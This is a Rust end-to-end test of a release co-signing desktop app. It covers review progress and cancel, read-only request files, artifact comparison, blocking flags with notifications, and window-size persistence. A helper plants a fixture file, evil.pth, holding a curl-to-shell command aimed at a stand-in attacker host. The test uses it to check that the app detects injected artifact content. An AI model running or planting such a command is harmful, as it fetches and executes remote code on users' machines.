//! End-to-end, in the real window under Xvfb over WebDriver (the harness of `window.rs`): a
//! release I signed flagged from outside, a request file opened by a second launch and from
//! the top bar, an artifact with an extra `.pth` file compared on the review, and the
//! window's size kept across a restart (as `chainlock-app FILE`, which opens the file's
//! review first).
//!
//! The app creates the demo world on its first start, made big (`CHAINLOCK_DEMO_EXTRA_FILES`:
//! a few thousand generated files) so that opening the review shows its stages with *n of
//! total files* and a Cancel that returns to the inbox, after which the review opens whole. From outside the app, the test signs
//! release 1.1.0 with my keychain key and finalizes it (the domain API, as `chainlock sign`
//! and `chainlock finalize` do), then Alice raises a blocking flag on it (as `chainlock
//! flag` does); after *Sync now* the inbox's Final filter and the review say FLAGGED and a
//! notification reaches the session bus. Screenshots go to `<target>/tmp/window/` (and
//! with `UPDATE_SCREENSHOTS=1` to `docs/screenshots/`).

#![allow(clippy::unwrap_used, clippy::expect_used, missing_docs)]

mod harness;

use std::fs;
use std::path::Path;
use std::process::{Command, Stdio};
use std::thread;
use std::time::{Duration, Instant};

use harness::desktop::{Desktop, DesktopOptions};
use harness::shots::Shots;
use harness::Tools;

use chainlock_cosign::flags::Severity;
use chainlock_cosign::workspace::now;
use chainlock_cosign::{FlagKey, Paths, Workspace};
use chainlock_signer::keychain::Keychain;
use chainlock_signer::testing::SecretServiceSession;
use chainlock_signer::OpenOptions;

const DEBIAN_PACKAGES: &str = "apt-get install -y xvfb webkit2gtk-driver dbus-x11 imagemagick \
                               libwebkit2gtk-4.1-dev libayatana-appindicator3-dev \
                               gnome-keyring python3-dbusmock";

/// Where the app keeps its data and its configuration under a private `HOME`.
const APP_DATA: &str = ".local/share/org.chainlock.cosigner";
const APP_CONFIG: &str = ".config/org.chainlock.cosigner";
/// Generated files in the demo's release: its review takes long enough to cancel, and the
/// demo is still quick to build.
const EXTRA_FILES: usize = 4_000;

#[test]
fn flags_request_files_artifacts_and_window_state_in_the_real_window() {
    let tools = Tools::find();
    let keyring = SecretServiceSession::start();
    // This process signs and flags from outside the app: it needs the same keychain.
    for (name, value) in keyring.envs() {
        std::env::set_var(name, value);
    }
    let desktop = Desktop::start(
        &tools,
        &keyring,
        DesktopOptions {
            prefix: "chainlock-window-more-",
            notifications: true,
            app_env: vec![(chainlock_app::DEMO_EXTRA_FILES_ENV, EXTRA_FILES.to_string())],
        },
    );
    let (home, display, webdriver) = (&desktop.home, &desktop.display, &desktop.webdriver);
    let shots = Shots::new(tools.import.clone());
    let app = env!("CARGO_BIN_EXE_chainlock-app");
    let session = webdriver.new_session(app);
    let long = Duration::from_secs(90);

    let count = session.wait_for_text("#needs-me-count", long);
    assert_eq!(count, "2 requests wait for your signature.");
    let pending = session.attribute(&session.find(".item:not(.failing)"), "data-request");
    let demo = home.path().join(APP_DATA).join("demo");
    let you_paths = Paths {
        config_dir: demo.join("you/config"),
        data_dir: demo.join("you/data"),
    };
    let your_key = Keychain::new(Some(you_paths.config_dir.clone()))
        .unwrap()
        .list()
        .unwrap()
        .remove(0)
        .key_id;
    let you = Workspace::open(you_paths).unwrap();

    // Opening the big review shows n of total files; Cancel (pressed as soon as the count
    // shows, while the first stage runs) goes back to the inbox with no verdict.
    session.click(&format!("[data-request='{pending}']"));
    let counted = session.wait_for_text("#work-count", long);
    session.click("#work-cancel");
    assert!(counted.ends_with(" files"), "{counted}");
    let count = session.wait_for_text("#needs-me-count", long);
    assert_eq!(count, "2 requests wait for your signature.");
    assert_eq!(
        session.count("#verdict"),
        0,
        "a cancelled review shows no verdict"
    );
    // Opened again: its stages while it runs, then it is computed whole.
    session.click(&format!("[data-request='{pending}']"));
    let stages = session.wait_for_text("#review-stages", long);
    assert!(
        stages.contains("Recomputing the diff digest from your clone"),
        "{stages}"
    );
    shots.take(display, "review-progress");
    assert!(session
        .wait_for_text("#verdict", long)
        .contains("ready to sign: every check passed"));
    let checks = session.wait_for_text("#checks", long);
    let paths: usize = checks
        .split(" over ")
        .nth(1)
        .and_then(|rest| rest.split(' ').next())
        .and_then(|n| n.replace(',', "").parse().ok())
        .unwrap_or_else(|| panic!("no digest over n changed paths in {checks}"));
    assert!(
        paths > EXTRA_FILES,
        "the digest covers the whole range: {checks}"
    );
    session.click("#nav-inbox");
    session.wait_for_text("#needs-me-count", long);

    // A request file (air-gapped review), given to a second launch: every check, no Sign.
    let request_file = home.path().join("request-1.1.0.json");
    fs::write(
        &request_file,
        serde_json::to_vec_pretty(&you.request(&pending).unwrap()).unwrap(),
    )
    .unwrap();
    let second = desktop
        .launch(app)
        .arg(&request_file)
        .status()
        .expect("launch a second instance");
    assert!(second.success(), "the second launch failed: {second}");
    let banner = session.wait_for_text("#from-file", long);
    assert!(banner.contains("can never be signed"), "{banner}");
    assert!(banner.contains("request-1.1.0.json"), "{banner}");
    assert!(session
        .wait_for_text("#verdict", long)
        .contains("ready to sign: every check passed"));
    assert_eq!(session.wait_for_text("#digest-status", long), "MATCH");
    assert!(
        session.count("#sign-open") == 0 && session.count("#reject-open") == 0,
        "a review from a file offers Sign or Reject"
    );
    shots.take(display, "review-from-file");
    // A bad file from the top bar: refused, with what to do.
    session.click("#open-file");
    session.type_into("#open-file-path", "/dev/zero");
    session.click("#open-file-confirm");
    let refused = session.wait_for_text("#review-error", long);
    assert!(refused.contains("is not a regular file"), "{refused}");
    shots.take(display, "review-file-refused");

    // The artifact of 1.1.0 with an extra `.pth` file, compared on the review.
    let artifact = tarball_with_extra_file(&demo.join("source"), "v1.1.0", home.path());
    session.click("#nav-inbox");
    session.click(&format!("[data-request='{pending}']"));
    session.wait_for_text("#verdict", long);
    session.click("#artifact-open");
    session.type_into("#artifact-path", &artifact.display().to_string());
    session.click("#artifact-confirm");
    let only = session.wait_for_text("#only-in-artifact", long);
    assert!(only.contains("evil.pth"), "{only}");
    let verdict = session.wait_for_text("#artifact-verdict", long);
    assert!(verdict.ends_with("not from the source"), "{verdict}");
    session.scroll_into_view("#artifact");
    shots.take(display, "review-artifact");

    // From outside: I sign 1.1.0 and finalize it; then Alice flags it (blocking).
    let opts = OpenOptions::default();
    you.sync().unwrap();
    you.sign(
        &pending,
        &format!("keychain://{your_key}"),
        &opts,
        now(),
        true,
    )
    .unwrap();
    you.finalize(&pending, now()).unwrap();
    let alice_paths = Paths {
        config_dir: demo.join("alice/config"),
        data_dir: demo.join("alice/data"),
    };
    let alice = Workspace::open(alice_paths.clone()).unwrap();
    alice.sync().unwrap();
    let alice_key = Keychain::new(Some(alice_paths.config_dir))
        .unwrap()
        .list()
        .unwrap()
        .into_iter()
        .find(|k| k.label.ends_with(": alice"))
        .unwrap();
    alice
        .flag(
            "npm:pad@1.1.0",
            Severity::Blocking,
            "the tarball runs a postinstall <script> that was not in the tag\u{202e}",
            vec!["https://ci.example/pad/1.1.0/log".into()],
            FlagKey::Maintainer(&alice_key.uri()),
            &opts,
            now(),
        )
        .unwrap();

    // The app syncs: FLAGGED in the Final filter and the review, and a notification.
    session.click("#nav-inbox");
    session.click("#sync-now");
    session.click("[data-filter='final']");
    let status = session.wait_for_text_starting(
        &format!("[data-request='{pending}'] .release-status"),
        "FLAGGED",
        long,
    );
    assert_eq!(status, "FLAGGED by 1 key");
    shots.take(display, "inbox-flagged");
    session.click(&format!("[data-request='{pending}']"));
    let header = session.wait_for_text("#release-status", long);
    assert!(header.contains("FLAGGED"), "{header}");
    let flags = session.wait_for_text("#release-flags", long);
    assert!(flags.contains("COUNTED"), "{flags}");
    assert!(
        flags.contains("\\u{202e}"),
        "the hidden character is shown escaped: {flags}"
    );
    assert!(
        flags.contains("<script>"),
        "markup is shown as text: {flags}"
    );
    shots.take(display, "review-flagged");
    let deadline = Instant::now() + Duration::from_secs(30);
    let mut log = String::new();
    while Instant::now() < deadline {
        log = desktop.notifications();
        if log.contains("FLAGGED: npm:pad release 1.1.0") {
            break;
        }
        thread::sleep(Duration::from_millis(300));
    }
    assert!(
        log.contains("FLAGGED: npm:pad release 1.1.0"),
        "no flag notification on the bus:\n{log}"
    );
    assert_eq!(
        log.matches("FLAGGED: npm:pad release 1.1.0").count(),
        1,
        "one notification per flag"
    );

    // Window state: a new size survives a restart.
    session.set_window_size(900, 640);
    let state_file = home.path().join(APP_CONFIG).join(".window-state.json");
    let deadline = Instant::now() + Duration::from_secs(20);
    while !fs::read_to_string(&state_file).is_ok_and(|s| s.contains("900")) {
        assert!(
            Instant::now() < deadline,
            "the window state was not saved to {}",
            state_file.display()
        );
        thread::sleep(Duration::from_millis(200));
    }
    session.delete();
    // Restarted as `chainlock-app FILE`: the file's review opens first, at the kept size.
    let file_arg = request_file.display().to_string();
    let session = webdriver.new_session_with_args(app, &[file_arg.as_str()]);
    let banner = session.wait_for_text("#from-file", long);
    assert!(banner.contains("request-1.1.0.json"), "{banner}");
    assert_eq!(
        session.count("#sign-open"),
        0,
        "a review from a file offers Sign"
    );
    let (width, height) = session.window_size();
    assert_eq!((width, height), (900, 640), "the size after a restart");
    session.delete();

    desktop.stop();
    drop(keyring);
}

/// An npm-style tarball (`package/...`, plain GNU tar: `git archive`'s PAX header is refused
/// by the review as crafted) of `tag` in the git repository `source`, with an extra
/// `package/evil.pth` that the tag does not have.
fn tarball_with_extra_file(source: &Path, tag: &str, dir: &Path) -> std::path::PathBuf {
    let tree = dir.join("artifact-tree");
    fs::create_dir_all(tree.join("package")).unwrap();
    let archive = Command::new("git")
        .arg("-C")
        .arg(source)
        .args(["archive", "--format=tar", tag])
        .output()
        .unwrap();
    assert!(archive.status.success(), "git archive failed");
    let mut untar = Command::new("tar")
        .arg("-x")
        .arg("-C")
        .arg(tree.join("package"))
        .stdin(Stdio::piped())
        .spawn()
        .unwrap();
    std::io::Write::write_all(&mut untar.stdin.take().unwrap(), &archive.stdout).unwrap();
    assert!(untar.wait().unwrap().success(), "tar -x failed");
    fs::write(
        tree.join("package/evil.pth"),
        "import os; os.system('curl evil.example | sh')\n",
    )
    .unwrap();
    let tgz = dir.join("pad-1.1.0.tgz");
    let ok = Command::new("tar")
        .args(["--format=gnu", "-czf"])
        .arg(&tgz)
        .arg("-C")
        .arg(&tree)
        .arg("package")
        .status()
        .unwrap();
    assert!(ok.success(), "tar -c failed");
    tgz
}
